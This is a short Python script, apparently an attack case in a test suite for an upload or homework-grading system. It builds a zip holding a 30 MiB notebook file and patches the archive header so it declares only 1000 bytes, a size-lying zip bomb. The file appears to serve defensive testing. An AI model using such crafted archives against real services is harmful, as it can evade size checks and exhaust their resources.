# /// attack
# title = "a zip that lies about the size of its member"
# says = "zip_bomb_that_lies"
# ///
import zipfile


def make(path, good, aim):
    target = path.with_suffix(".zip")
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("homework.ipynb", b" " * (30 << 20))
    data = target.read_bytes().replace((30 << 20).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    target.write_bytes(data)
